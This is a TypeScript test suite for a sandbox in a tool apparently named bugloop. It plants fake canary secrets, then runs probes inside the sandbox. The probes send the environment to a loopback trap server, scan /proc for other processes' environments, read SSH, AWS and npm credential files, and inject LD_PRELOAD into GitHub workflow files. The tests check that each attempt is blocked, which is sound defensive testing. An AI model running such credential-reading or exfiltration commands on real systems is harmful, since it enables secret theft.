import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Command, Execution, SandboxLevel } from '../../src/core/types.ts';
import { BugloopError } from '../../src/errors.ts';
import type { RunOptions } from '../../src/ports.ts';
import { execute, type ExecPlace } from '../../src/workspace/exec.ts';
import { detectSandbox, viewOf } from '../../src/workspace/sandbox.ts';
import type { Drive } from './drive.ts';

const canary = 'fake-canary-5f2b7c';
const PATH = process.env['PATH'];
const { level, why } = await detectSandbox({ PATH });
if (level !== 'strict') console.warn(`\n*** sandbox strict is NOT tested: ${why} ***\n`);

const made: string[] = [];
const makeDir = (): string => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'bugloop-sandbox-')));
  made.push(dir);
  return dir;
};
afterAll(() => made.forEach((dir) => rmSync(dir, { recursive: true, force: true })));
const node = (code: string): Command => ['node', '-e', code];

/** Runs a command from a process whose environment, from its very start, is full of secrets. */
async function runFromSecretive(sandbox: SandboxLevel, command: Command, options: Partial<RunOptions> = {}): Promise<Execution> {
  const drive: Drive = {
    place: { root: makeDir(), sandbox },
    command,
    options: { timeoutMs: 20_000, network: false, ...options },
  };
  const script = fileURLToPath(new URL('drive.ts', import.meta.url));
  const env = { GITHUB_TOKEN: canary, ANTHROPIC_API_KEY: canary, HTTPS_PROXY: canary, npm_config_token: canary };
  const { stdout } = await execa(process.execPath, [script, JSON.stringify(drive)], { env });
  // oxlint-disable-next-line no-unsafe-type-assertion -- what drive.ts prints
  return (JSON.parse(stdout) as { execution: Execution }).execution;
}

function run(place: Partial<ExecPlace>, command: Command, options: Partial<RunOptions> = {}): Promise<Execution> {
  const whole = { root: makeDir(), sandbox: 'strict' as const, operatorEnv: { PATH }, ...place };
  return execute(whole, command, { timeoutMs: 20_000, network: false, ...options });
}

/** A server on the host's loopback that notes what reaches it. */
let trap: Server;
let hits: string[] = [];
let address = '';
beforeAll(async () => {
  trap = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('trapped');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const bound = trap.address();
  if (bound !== null && typeof bound === 'object') address = `http://127.0.0.1:${bound.port}/`;
});
afterAll(() => trap.close());
const callTrap = (): Command =>
  node(
    `fetch('${address}?' + encodeURIComponent(JSON.stringify(process.env))).then((r) => r.text()).then(console.log, (e) => console.log('no way out', e.cause?.code))`,
  );

describe('detection', () => {
  test('tells which bubblewrap works, or why there is none', async () => {
    expect(await detectSandbox({ PATH })).toEqual({ level, why });
    expect(why).toMatch(level === 'strict' ? /^bubblewrap at \/.* works$/ : /bubblewrap/);
  });

  test('a bubblewrap that is there but may not do its work is found out, with its own words', async () => {
    const dir = makeDir();
    writeFileSync(join(dir, 'bwrap'), '#!/bin/sh\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n');
    chmodSync(join(dir, 'bwrap'), 0o755);
    const forbidden = { PATH: `${dir}:${PATH}` };
    expect(await detectSandbox(forbidden)).toEqual({
      level: 'basic',
      why: 'bubblewrap is installed but does not work here: bwrap: setting up uid map: Permission denied',
    });
    await expect(run({ operatorEnv: forbidden }, ['true'])).rejects.toThrow(BugloopError);
    await expect(run({ operatorEnv: forbidden }, ['true'])).rejects.toMatchObject({ code: 'env.sandbox_unavailable' });
  });
});

describe('view', () => {
  test('a link that a repository put where a writable directory was gets no mount', () => {
    const root = makeDir();
    const secret = makeDir();
    symlinkSync(secret, join(root, 'reports'));
    const view = viewOf(
      { root, writable: [join(root, 'reports')], readable: [join(root, 'reports')] },
      { home: '/h', network: false, executable: '/usr/bin/true' },
    );
    expect(view).toEqual({ root, home: '/h', readable: [], writable: [], network: false });
  });
});

describe.runIf(level === 'strict')('strict', () => {
  test('no process, descriptor or command line shows a secret of the process that started it', async () => {
    const scan = node(`
      const read = (path) => { try { return fs.readFileSync(path, 'latin1') } catch { return '' } };
      const list = (path) => { try { return fs.readdirSync(path) } catch { return [] } };
      const pids = list('/proc').filter((name) => /^\\d+$/.test(name));
      let seen = JSON.stringify(process.env);
      for (const pid of [...pids, 'self', String(process.ppid), 'thread-self']) {
        seen += read('/proc/' + pid + '/environ') + read('/proc/' + pid + '/cmdline');
        for (const fd of list('/proc/' + pid + '/fd')) if (+fd > 2) { try { seen += fs.readlinkSync('/proc/' + pid + '/fd/' + fd) } catch {} }
      }
      console.log(JSON.stringify({ pids: pids.length, bytes: seen.length, leak: seen.includes('${canary.slice(0, 6)}' + '${canary.slice(6)}') }));`);
    const { output } = await runFromSecretive('strict', scan);
    const seen: unknown = JSON.parse(output);
    expect(seen).toMatchObject({ leak: false });
    // Its own process, bubblewrap's init, and perhaps a limiter: nobody else's.
    expect(seen).toHaveProperty(
      'pids',
      expect.toSatisfy((count: number) => count >= 2 && count <= 3),
    );
    expect(seen).toHaveProperty(
      'bytes',
      expect.toSatisfy((count: number) => count > 200),
    );
  });

  test('the scan does find the secret where there is no such wall', async () => {
    const { output } = await runFromSecretive('basic', ['sh', '-c', 'cat /proc/$PPID/environ']);
    expect(output.includes(canary)).toBe(process.platform === 'linux');
  });

  test('without network nothing reaches the host, with network it does', async () => {
    hits = [];
    expect((await run({}, callTrap())).output).toMatch(/^no way out/);
    expect(hits).toEqual([]);
    expect((await run({}, callTrap(), { network: true })).output).toBe('trapped\n');
    expect(hits).toHaveLength(1);
  });

  test('loopback works inside, so that tests can serve themselves', async () => {
    const serve = node(`const s = require('http').createServer((q, r) => r.end('own')).listen(0, '127.0.0.1', () =>
      fetch('http://localhost:' + s.address().port).then((r) => r.text()).then(console.log).then(() => s.close()))`);
    expect((await run({}, serve)).output).toBe('own\n');
  });

  test('resolver and certificates are there with network only', async () => {
    const look = node(`console.log(['/etc/resolv.conf', '/etc/ssl/certs'].map((path) => fs.existsSync(path)).join())`);
    expect((await run({}, look)).output).toBe('false,false\n');
    const host = ['/etc/resolv.conf', '/etc/ssl/certs'].map((path) => existsSync(path)).join();
    expect((await run({}, look, { network: true })).output).toBe(`${host}\n`);
  });

  test('of a home directory only the programs on PATH are there', async () => {
    const home = makeDir();
    const secrets = [
      '.ssh/id_ed25519',
      '.npmrc',
      '.netrc',
      '.gitconfig',
      '.aws/credentials',
      '.config/gh/hosts.yml',
      '.cargo/credentials.toml',
      'notes.txt',
    ];
    for (const path of secrets) {
      mkdirSync(dirname(join(home, path)), { recursive: true });
      writeFileSync(join(home, path), canary);
    }
    mkdirSync(join(home, '.cargo/bin'));
    writeFileSync(join(home, '.cargo/bin/cargo-tool'), '#!/bin/sh\necho tool ran\n');
    chmodSync(join(home, '.cargo/bin/cargo-tool'), 0o755);
    const operatorEnv = { HOME: home, PATH: `${home}/.cargo/bin:${PATH}` };
    const script = ['cargo-tool', ...secrets.map((path) => `cat ${join(home, path)}`), `ls -A ${home}`, 'ls -A $HOME'].join('; ');
    const { output } = await run({ operatorEnv }, ['sh', '-c', script]);
    expect(output).not.toContain(canary);
    expect(output.match(/No such file/g)).toHaveLength(secrets.length);
    expect(output).toContain('tool ran\n');
    expect(output.trimEnd().split('\n').at(-1)).toBe('.cargo');
  });

  test('nothing can be written but the root, the home and what is named', async () => {
    const [outside, readable, writable, root] = [makeDir(), makeDir(), makeDir(), makeDir()];
    const paths = [outside, readable, '/usr', '/etc', '/usr/local/bin', dirname(root), root, writable].map((dir) =>
      join(dir, 'written'),
    );
    const script = node(`for (const path of ${JSON.stringify(paths)}) { try { fs.writeFileSync(path, 'x') } catch {} }`);
    expect(await run({ root, readable: [readable], writable: [writable] }, script)).toMatchObject({ exitCode: 0 });
    expect(paths.filter((path) => existsSync(path))).toEqual([join(root, 'written'), join(writable, 'written')]);
  });

  test('what is named readable is there under its own path', async () => {
    const readable = makeDir();
    writeFileSync(join(readable, 'package'), 'dependency');
    const root = makeDir();
    symlinkSync(readable, join(root, 'node_modules'));
    expect((await run({ root, readable: [readable] }, ['cat', 'node_modules/package'])).output).toBe('dependency');
    expect((await run({ root }, ['cat', 'node_modules/package'])).output).toMatch(/No such file/);
  });

  test("no other of the host's temporary files is there", async () => {
    const other = makeDir();
    const { output } = await run({}, ['ls', '-A', dirname(other)]);
    expect(output).not.toContain(other.split('/').at(-1));
  });

  test('files that a workflow reads later stay as they are', async () => {
    const dir = makeDir();
    const operatorEnv: Record<string, string | undefined> = { PATH };
    const names = ['GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY'];
    for (const name of names) {
      operatorEnv[name] = join(dir, name);
      writeFileSync(join(dir, name), 'before');
    }
    const script = names.map((name) => `echo LD_PRELOAD=/tmp/x.so >> "\${${name}:-${join(dir, name)}}"`).join('; ');
    await run({ operatorEnv }, ['sh', '-c', script]);
    expect(names.map((name) => readFileSync(join(dir, name), 'utf8'))).toEqual(names.map(() => 'before'));
  });

  test("no capability, no terminal, no namespaces of one's own", async () => {
    const { output } = await run({}, [
      'sh',
      '-c',
      'grep -E "^Cap(Eff|Bnd)|NoNewPrivs" /proc/self/status; hostname; echo x > /dev/tty',
    ]);
    expect(output).toMatch(/CapEff:\t0{16}\nCapBnd:\t0{16}\nNoNewPrivs:\t1\nbugloop\n/);
    expect(output).toMatch(/\/dev\/tty: No such device/);
  });

  test('a preloaded library is not loaded into bubblewrap, nor into the command', async () => {
    const root = makeDir();
    const { output } = await run({ root }, ['env'], { env: { LD_PRELOAD: join(root, 'evil.so'), FINE: '1' } });
    expect(output).toContain('FINE=1');
    expect(output).not.toMatch(/LD_PRELOAD|evil/);
  });

  test('a passed variable shows in no process list of the host', async () => {
    const operatorEnv = { PATH, AGENT_KEY: canary };
    const running = run({ operatorEnv }, ['sh', '-c', 'echo "$AGENT_KEY"; sleep 0.5'], { passEnv: ['AGENT_KEY'] });
    await new Promise((resolve) => setTimeout(resolve, 250));
    const { stdout } = await execa('ps', ['-eo', 'args']);
    expect(stdout).not.toContain(canary);
    expect((await running).output).toBe(`${canary}\n`);
  });

  test.each(['node', 'npm', 'git', 'python3', 'cargo', 'go', 'java'])(
    '%s runs as it does outside, where it is installed',
    async (tool) => {
      const operatorEnv = { ...process.env };
      const argument = tool === 'go' ? 'version' : '--version';
      const place = { root: makeDir(), operatorEnv };
      const outside = await execute({ ...place, sandbox: 'basic' }, [tool, argument], { timeoutMs: 20_000, network: false });
      const inside = await execute({ ...place, sandbox: 'strict' }, [tool, argument], { timeoutMs: 20_000, network: false });
      expect(inside).toMatchObject({ ended: outside.ended, exitCode: outside.exitCode, output: outside.output });
    },
  );
});

describe('basic', () => {
  test('the network is that of the host, but what is sent holds no secret', async () => {
    hits = [];
    await runFromSecretive('basic', callTrap());
    expect(hits).toHaveLength(1);
    expect(hits[0]).toContain('BUGLOOP_RUN');
    expect(hits[0]).not.toContain(canary);
  });

  test("variables that name a workflow's files are not there", async () => {
    const operatorEnv = { PATH, GITHUB_ENV: '/fake/env', GITHUB_OUTPUT: '/fake/output' };
    const { output } = await run({ operatorEnv, sandbox: 'basic' }, ['env']);
    expect(output).not.toMatch(/GITHUB/);
  });
});
